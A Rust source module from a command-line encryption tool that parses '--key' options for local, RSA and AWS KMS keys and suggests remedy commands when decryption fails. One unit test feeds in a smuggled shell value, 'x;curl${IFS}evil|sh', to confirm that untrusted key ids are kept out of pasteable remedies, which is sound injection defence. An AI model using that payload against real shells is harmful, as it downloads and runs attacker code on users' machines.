//! Wrapping keys: from `--key` to a keyring.

mod file;
mod names;
mod pem;
mod rewrap;

use std::collections::HashMap;
use std::path::PathBuf;
use std::str::FromStr;
use std::sync::Arc;
use std::sync::Mutex;
use std::sync::PoisonError;

use async_trait::async_trait;
use waxseal::DataKey;
use waxseal::Error;
use waxseal::ErrorKind;
use waxseal::KeyRequest;
use waxseal::Keyring;
use waxseal::KmsKeyring;
use waxseal::KmsRsaKeyring;
use waxseal::LocalKeyring;
use waxseal::MultiKeyring;
use waxseal::RsaKeyring;
use waxseal::SecretKey;
use waxseal::WrappedKey;

pub(crate) use file::absent;
pub(crate) use file::create;
pub(crate) use file::default_path;
pub(crate) use file::key_file;
pub(crate) use file::load;
pub(crate) use file::made;
pub(crate) use file::make_folder;
pub(crate) use names::KeyNames;
pub(crate) use rewrap::rewrap;

use crate::args::KeyArgs;
use crate::aws::Aws;
use crate::exit::Failure;
use crate::passphrase::Passphrase;

/// What one `--key` says.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) enum KeySpec {
    AwsKms(String),
    /// An RSA key in KMS.
    AwsKmsRsa(String),
    /// A key file; without a path the one in the user's config folder.
    Local(Option<PathBuf>),
    /// A public or private key in PEM.
    Rsa(PathBuf),
}

impl FromStr for KeySpec {
    type Err = &'static str;

    fn from_str(text: &str) -> Result<Self, Self::Err> {
        match text.split_once(':') {
            None if text == "local" => Ok(Self::Local(None)),
            Some(("local", path)) if !path.is_empty() => Ok(Self::Local(Some(path.into()))),
            Some(("aws-kms", id)) if !id.is_empty() => Ok(Self::AwsKms(id.to_owned())),
            Some(("aws-kms-rsa", id)) if !id.is_empty() => Ok(Self::AwsKmsRsa(id.to_owned())),
            Some(("rsa", path)) if !path.is_empty() => Ok(Self::Rsa(path.into())),
            _ => Err(
                "want local, local:PATH, rsa:PATH, aws-kms-rsa:ID or aws-kms:ID, as in aws-kms:alias/orders",
            ),
        }
    }
}

impl KeySpec {
    /// As the library's keyring of this kind names itself in envelopes.
    fn provider(&self) -> &'static str {
        match self {
            Self::AwsKms(_) => AWS_KMS,
            Self::Local(_) => LOCAL,
            Self::AwsKmsRsa(_) | Self::Rsa(_) => RSA,
        }
    }

    async fn add_to(
        &self,
        keyrings: &mut Keyrings,
        passphrase: &Passphrase,
        aws: &Aws,
    ) -> Result<(), Failure> {
        let keyring: Arc<dyn Keyring> = match self {
            Self::AwsKms(id) => Arc::new(kms(id, aws).await?),
            Self::AwsKmsRsa(id) => {
                let keyring = KmsRsaKeyring::connect(aws.kms(id).await?, id.clone()).await;
                Arc::new(keyring.map_err(|e| Failure::library("cannot use the RSA key in KMS", e))?)
            }
            Self::Local(Some(path)) => match load(path, passphrase)? {
                Some(keys) => Arc::new(LocalKeyring::new(keys)),
                // Not made: a mistyped path or an unmounted disk must not look like a new key.
                None => return Err(absent(path).or("make a new one with `waxseal keygen`")),
            },
            Self::Local(None) => {
                let path = default_path()?;
                match load(&path, passphrase)? {
                    Some(keys) => Arc::new(LocalKeyring::new(keys)),
                    None => Arc::new(file::Absent { path, passphrase: passphrase.clone() }),
                }
            }
            Self::Rsa(path) => {
                keyrings.push_rsa(pem::load(path)?);
                return Ok(());
            }
        };
        keyrings.all.push(keyring);
        Ok(())
    }
}

async fn kms(id: &str, aws: &Aws) -> Result<KmsKeyring, Failure> {
    Ok(KmsKeyring::new(aws.kms(id).await?, id))
}

#[derive(Default)]
struct Keyrings {
    all: Vec<Arc<dyn Keyring>>,
    /// Which of them are of these RSA keys.
    rsa: HashMap<String, usize>,
}

impl Keyrings {
    /// The two halves of a key count as one, and the private one can do all.
    fn push_rsa(&mut self, keyring: RsaKeyring) {
        let at = *self.rsa.entry(keyring.key_id().to_owned()).or_insert(self.all.len());
        if at == self.all.len() {
            self.all.push(Arc::new(keyring));
        } else if keyring.can_open() {
            self.all[at] = Arc::new(keyring);
        }
    }
}

/// The keyring that `--key` names. Remembers what to try when an object names another key.
#[derive(Clone, Debug)]
pub(crate) struct Keys {
    keyring: Arc<dyn Keyring>,
    providers: Arc<[&'static str]>,
    remedy: Arc<Mutex<Option<Remedy>>>,
}

/// What to try when an object does not open.
#[derive(Debug, PartialEq, Eq)]
enum Remedy {
    /// None of its keys was given.
    Instead(String),
    /// KMS refused the key that was given.
    Or(String),
}

impl Keys {
    /// # Errors
    ///
    /// `Code::Key` if a key file cannot be used or AWS is not configured.
    pub(crate) async fn new(args: &KeyArgs, aws: &Aws) -> Result<Self, Failure> {
        Self::of(&args.key, &args.passphrase.read()?, aws).await
    }

    /// # Errors
    ///
    /// `Code::Key` if a key file cannot be used or AWS is not configured.
    pub(crate) async fn of(
        specs: &[KeySpec],
        passphrase: &Passphrase,
        aws: &Aws,
    ) -> Result<Self, Failure> {
        let mut keyrings = Keyrings::default();
        for (i, spec) in specs.iter().enumerate() {
            if specs[..i].contains(spec) {
                return Err(Failure::usage(format!("--key number {} was given before", i + 1))
                    .remedy("give each key once"));
            }
            spec.add_to(&mut keyrings, passphrase, aws).await?;
        }
        let mut keyrings = keyrings.all.into_iter();
        let first = keyrings.next().expect("there is a default");
        let keyring = match keyrings.len() {
            0 => first,
            _ => Arc::new(keyrings.fold(MultiKeyring::new(first), MultiKeyring::and)),
        };
        let providers = specs.iter().map(KeySpec::provider).collect();
        Ok(Self { keyring, providers, remedy: Arc::default() })
    }

    /// For what needs no key.
    pub(crate) fn nothing() -> Self {
        Self { keyring: Arc::new(Nothing), providers: Arc::default(), remedy: Arc::default() }
    }

    /// The failure of a call of the library that used these keys.
    pub(crate) fn failure(&self, what: impl Into<String>, error: Error) -> Failure {
        let is_key = matches!(error.kind(), ErrorKind::KeyAccess | ErrorKind::Keyring);
        let failure = Failure::library(what, error);
        let remedy = self.remedy.lock().unwrap_or_else(PoisonError::into_inner).take();
        match remedy {
            Some(Remedy::Instead(remedy)) if is_key => failure.remedy(remedy),
            Some(Remedy::Or(remedy)) if is_key => failure.or(&remedy),
            _ => failure,
        }
    }
}

#[async_trait]
impl Keyring for Keys {
    async fn generate_data_key(&self, request: &KeyRequest<'_>) -> waxseal::Result<DataKey> {
        self.keyring.generate_data_key(request).await
    }

    async fn unwrap_data_key(
        &self,
        wrapped: &[WrappedKey],
        request: &KeyRequest<'_>,
    ) -> waxseal::Result<SecretKey> {
        let done = self.keyring.unwrap_data_key(wrapped, request).await;
        if let Err(error) = &done {
            let remedy = match refused(&error.to_string()) {
                None => other_key(&self.providers, wrapped).map(Remedy::Instead),
                Some(keys) => alternative(&keys, wrapped).map(Remedy::Or),
            };
            *self.remedy.lock().unwrap_or_else(PoisonError::into_inner) = remedy;
        }
        done
    }
}

#[derive(Debug)]
struct Nothing;

#[async_trait]
impl Keyring for Nothing {
    async fn generate_data_key(&self, _: &KeyRequest<'_>) -> waxseal::Result<DataKey> {
        Err(no_key())
    }

    async fn unwrap_data_key(
        &self,
        _: &[WrappedKey],
        _: &KeyRequest<'_>,
    ) -> waxseal::Result<SecretKey> {
        Err(no_key())
    }
}

/// What to say if these wrapped keys are for others than the keys given, which are of these kinds.
fn other_key(given: &[&str], wrapped: &[WrappedKey]) -> Option<String> {
    let remedy = |wrapped: &WrappedKey| {
        let id = pasteable(wrapped)?;
        match wrapped.provider() {
            AWS_KMS => Some(format!("use --key {AWS_KMS}:{id}, if that key is one of yours")),
            LOCAL if given.contains(&LOCAL) => {
                Some(format!("name the key file that holds the key {id}: --key local:PATH"))
            }
            LOCAL => {
                Some(format!("use --key local or local:PATH, the key file that holds the key {id}"))
            }
            RSA => Some(format!(
                "use --key rsa:PATH, the private key whose public half has the SHA-256 {id} \
                 ({FINGERPRINT} tells), or aws-kms-rsa:ID if it is in KMS"
            )),
            _ => None,
        }
    };
    let of_given = wrapped.iter().filter(|w| given.contains(&w.provider()));
    of_given.chain(wrapped).find_map(remedy)
}

/// The id of a wrapping key, if a shell takes it for a word: it comes from the object, and what is
/// printed as a remedy gets pasted.
fn pasteable(wrapped: &WrappedKey) -> Option<&str> {
    let is_plain = |b: u8| b.is_ascii_alphanumeric() || b":/_.-".contains(&b);
    wrapped.key_id().filter(|id| id.bytes().all(is_plain))
}

/// The keys, as named in this message of the library, that matched and that KMS did not use.
fn refused(text: &str) -> Option<Vec<&str>> {
    let calls = text.split("KMS Decrypt with ").skip(1);
    let keys: Vec<_> = calls.filter_map(|call| Some(call.split_once(": ")?.0)).collect();
    (!keys.is_empty() || text.contains("KMS DescribeKey with ")).then_some(keys)
}

/// The other keys that open what is wrapped so.
fn alternative(refused: &[&str], wrapped: &[WrappedKey]) -> Option<String> {
    let key = |wrapped: &WrappedKey| {
        let id = pasteable(wrapped)?;
        let name = id.rsplit('/').next()?; // replicas of a key share it
        match wrapped.provider() {
            AWS_KMS if refused.iter().any(|key| key.contains(name)) => None,
            AWS_KMS => Some(format!("{AWS_KMS}:{id}")),
            LOCAL => Some(format!("local:PATH, which holds the key {id}")),
            RSA => Some(format!(
                "rsa:PATH, whose public half has the SHA-256 {id} ({FINGERPRINT} tells)"
            )),
            _ => None,
        }
    };
    let keys: Vec<_> = wrapped.iter().filter_map(key).collect();
    (!keys.is_empty()).then(|| format!("open it with --key {}", keys.join(", or --key ")))
}

fn names(wrapped: &[WrappedKey]) -> String {
    let name = |w: &WrappedKey| format!("{} {}", w.provider(), w.key_id().unwrap_or("(unnamed)"));
    wrapped.iter().map(name).collect::<Vec<_>>().join(" and ")
}

fn no_key() -> Error {
    Error::new(ErrorKind::KeyAccess, "this command uses no key")
}

/// As the library's keyrings name themselves in envelopes.
const AWS_KMS: &str = "aws-kms";
const LOCAL: &str = "local";
const RSA: &str = "rsa";
/// Gives the name of an RSA key in envelopes.
const FINGERPRINT: &str = "`openssl pkey -in KEY -pubout -outform DER | sha256sum`";

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn keys_are_read() {
        let arn = "arn:aws:kms:eu-west-1:111122223333:key/1";
        assert_eq!("local".parse(), Ok(KeySpec::Local(None)));
        assert_eq!("local:a:b".parse(), Ok(KeySpec::Local(Some("a:b".into()))));
        assert_eq!(format!("aws-kms:{arn}").parse(), Ok(KeySpec::AwsKms(arn.into())));
        assert_eq!("aws-kms-rsa:a:b".parse(), Ok(KeySpec::AwsKmsRsa("a:b".into())));
        assert_eq!("rsa:a:b".parse(), Ok(KeySpec::Rsa("a:b".into())));
        for bad in [
            "",
            "local:",
            "aws-kms",
            "aws-kms:",
            "alias/x",
            "kms:x",
            "Local",
            "rsa",
            "rsa:",
            "aws-kms-rsa:",
        ] {
            assert!(bad.parse::<KeySpec>().is_err(), "{bad}");
        }
    }

    #[test]
    fn no_remedy_is_a_command_of_whoever_wrote_the_object() {
        for (id, is_named) in [("arn:aws:kms:x:1:key/a-b", true), ("x;curl${IFS}evil|sh", false)] {
            for provider in [AWS_KMS, LOCAL, RSA] {
                let wrapped = [WrappedKey::new(provider, id, [1]).unwrap()];
                assert_eq!(other_key(&[LOCAL], &wrapped).is_some(), is_named, "{provider}");
                assert_eq!(alternative(&[], &wrapped).is_some(), is_named, "{provider}");
            }
        }
    }

    #[test]
    fn the_remedy_names_the_key_that_is_needed() {
        let kms = WrappedKey::new("aws-kms", "arn:1", [1]).unwrap();
        let local = WrappedKey::new("local", "ab12", [1]).unwrap();
        let rsa = WrappedKey::new("rsa", "9f8e", [1]).unwrap();
        let remedy = |given, wrapped: &[&WrappedKey]| {
            other_key(&[given], &wrapped.iter().map(|w| (*w).clone()).collect::<Vec<_>>()).unwrap()
        };
        assert_eq!(remedy(LOCAL, &[&kms]), "use --key aws-kms:arn:1, if that key is one of yours");
        assert_eq!(
            remedy(AWS_KMS, &[&kms]),
            "use --key aws-kms:arn:1, if that key is one of yours"
        );
        assert!(remedy(AWS_KMS, &[&local]).contains("use --key local or local:PATH"));
        assert!(remedy(LOCAL, &[&local]).contains("holds the key ab12"));
        assert!(remedy(LOCAL, &[&kms, &local]).contains("holds the key ab12"));
        assert_eq!(
            remedy(RSA, &[&kms, &local]),
            "use --key aws-kms:arn:1, if that key is one of yours"
        );
        assert!(remedy(RSA, &[&kms, &rsa]).contains("has the SHA-256 9f8e"));
    }

    #[test]
    fn a_key_that_kms_refused_is_not_named_again() {
        let kms = WrappedKey::new("aws-kms", "arn:key/1", [1]).unwrap();
        let other = WrappedKey::new("aws-kms", "arn:key/2", [1]).unwrap();
        let text = "no keyring of 2 opens it; 1: KMS Decrypt with arn:key/1: DisabledException; 2: \
                    sealed under aws-kms arn:key/2, but the key in use is local a";
        let keys = refused(text).unwrap();
        assert_eq!(keys, ["arn:key/1"]);
        assert_eq!(alternative(&keys, std::slice::from_ref(&kms)), None);
        let named = alternative(&keys, &[kms.clone(), other]);
        assert_eq!(named.as_deref(), Some("open it with --key aws-kms:arn:key/2"));
        let unknown = refused("KMS DescribeKey with alias/a: AccessDenied").unwrap();
        let named = alternative(&unknown, &[kms]);
        assert_eq!(named.as_deref(), Some("open it with --key aws-kms:arn:key/1"));
        assert_eq!(refused("sealed under local a, but the key in use is local b"), None);
    }
}
